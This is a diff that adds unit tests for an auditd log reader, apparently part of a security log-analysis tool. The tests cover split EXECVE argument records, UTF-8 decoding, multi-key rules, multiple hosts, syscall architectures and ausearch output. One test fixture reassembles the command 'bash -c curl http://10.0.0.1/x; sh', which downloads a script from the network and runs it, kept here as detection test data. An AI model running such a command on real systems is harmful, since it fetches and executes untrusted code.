@@ -211,6 +211,95 @@ describe('AuditdReader', () => {
   });
 });
 
+describe('AuditdReader on long arguments, rule keys, hosts, architectures and ausearch output', () => {
+  const execve = (serial: number, pid: number, node = ''): string =>
+    `${node}type=SYSCALL msg=audit(6.000:${serial}): arch=c000003e syscall=59 success=yes exit=0 ppid=1 pid=${pid} uid=0 comm="x" exe="/bin/x${pid}" key="exec"`;
+
+  it('joins an argument whose aN[i] pieces run over several EXECVE records, in order', async () => {
+    const log = [
+      execve(40, 2),
+      `type=EXECVE msg=audit(6.000:40): argc=3 a0="bash" a1="-c" a2_len=24 a2[0]=${hex('curl http://')}`,
+      `type=EXECVE msg=audit(6.000:40): a2[1]=${hex('10.0.0.1/x;')}`,
+      `type=EXECVE msg=audit(6.000:40): a2[2]=${hex(' sh')}`,
+      'type=EOE msg=audit(6.000:40):',
+      '',
+    ].join('\n');
+    const { events, issues } = await readWith(AUDITD_READER, files.write('split-records.log', log));
+    expect(issues.total).toBe(0);
+    expect(ofClass(events, 'linux|auditd|process_creation')[0]?.get('CommandLine')).toBe(
+      'bash -c curl http://10.0.0.1/x; sh',
+    );
+  });
+
+  it('decodes a UTF-8 character cut between two hex pieces', async () => {
+    const log = [
+      execve(41, 3),
+      'type=EXECVE msg=audit(6.000:41): argc=2 a0="echo" a1_len=5 a1[0]=636166C3 a1[1]=A9',
+      '',
+    ];
+    const { events } = await readWith(AUDITD_READER, files.write('utf8-pieces.log', log.join('\n')));
+    expect(ofClass(events, 'linux|auditd|process_creation')[0]?.get('CommandLine')).toBe('echo café');
+    expect(events.find((e) => e.get('type') === 'EXECVE')?.get('a1')).toBe('café');
+  });
+
+  it('splits a key field holding several rule keys (joined by the kernel with 0x01) into a list', async () => {
+    const log = `type=SYSCALL msg=audit(6.000:42): arch=c000003e syscall=2 success=yes exit=3 a1=241 ppid=1 pid=4 uid=0 comm="sh" exe="/bin/sh" key=${hex('systemd\u0001persist')}\n`;
+    const { events } = await readWith(AUDITD_READER, files.write('multikey.log', log));
+    expect(events[0]?.get('key')).toEqual(['systemd', 'persist']);
+  });
+
+  it('keeps the processes and events of several hosts apart, even when serial and time are the same', async () => {
+    const log = [
+      execve(80, 500, 'node=web1 '),
+      execve(80, 501, 'node=db2 ').replace('ppid=1', 'ppid=500'),
+      'node=web1 type=EXECVE msg=audit(6.000:80): argc=1 a0="sshd"',
+      'node=db2 type=EXECVE msg=audit(6.000:80): argc=2 a0="systemctl" a1="start"',
+      'node=web1 type=EOE msg=audit(6.000:80):',
+      'node=db2 type=EOE msg=audit(6.000:80):',
+      '',
+    ].join('\n');
+    const { events, issues } = await readWith(AUDITD_READER, files.write('nodes.log', log));
+    expect(issues.total).toBe(0);
+    const started = ofClass(events, 'linux|auditd|process_creation');
+    expect(started.map((e) => [e.host, e.get('CommandLine'), e.get('ParentImage')])).toEqual([
+      ['web1', 'sshd', undefined],
+      ['db2', 'systemctl start', undefined],
+    ]);
+  });
+
+  it('names i386 and aarch64 syscalls of RAW logs, and reports an arch without a table once', async () => {
+    const log = [
+      'type=SYSCALL msg=audit(7.000:300): arch=40000003 syscall=11 success=yes exit=0 ppid=1 pid=900 uid=0 comm="a" exe="/bin/a" key="exec"',
+      'type=EXECVE msg=audit(7.000:300): argc=1 a0="a"',
+      'type=SYSCALL msg=audit(7.000:301): arch=c00000b7 syscall=221 success=yes exit=0 ppid=1 pid=901 uid=0 comm="b" exe="/bin/b" key="exec"',
+      'type=EXECVE msg=audit(7.000:301): argc=1 a0="b"',
+      'type=SYSCALL msg=audit(7.000:302): arch=40000028 syscall=11 success=yes exit=0 ppid=1 pid=902 uid=0 comm="c" exe="/bin/c" key="exec"',
+      'type=SYSCALL msg=audit(7.000:303): arch=40000028 syscall=11 success=yes exit=0 ppid=1 pid=903 uid=0 comm="d" exe="/bin/d" key="exec"',
+      '',
+    ].join('\n');
+    const { events, issues } = await readWith(AUDITD_READER, files.write('arch.log', log));
+    expect(ofClass(events, 'linux|auditd|process_creation').map((e) => e.get('CommandLine'))).toEqual(['a', 'b']);
+    expect(issues.issues.map((i) => [i.code, i.line, i.recordId])).toEqual([['AUDIT_UNKNOWN_ARCH', 5, 302]]);
+  });
+
+  it("passes over ausearch's separator and time lines quietly, but still reports other junk", async () => {
+    const log = [
+      '----',
+      'time->Tue Nov 14 22:13:20 2023',
+      execve(43, 5),
+      'type=EXECVE msg=audit(6.000:43): argc=1 a0="id"',
+      '----',
+      'time->Tue Nov 14 22:13:21 2023',
+      'type=CWD msg=audit(6.000:44): cwd="/"',
+      '-- not a separator',
+      '',
+    ].join('\n');
+    const { events, issues } = await readWith(AUDITD_READER, files.write('ausearch.out', log));
+    expect(issues.issues.map((i) => [i.code, i.line])).toEqual([['BAD_AUDIT_LINE', 8]]);
+    expect(ofClass(events, 'linux|auditd')).toHaveLength(3);
+  });
+});
+
 describe('AuditdReader on the generated Linux logs', () => {
   const attack = join(LOG_CORPUS, 'linux-generated/auditd/attack.log');
 
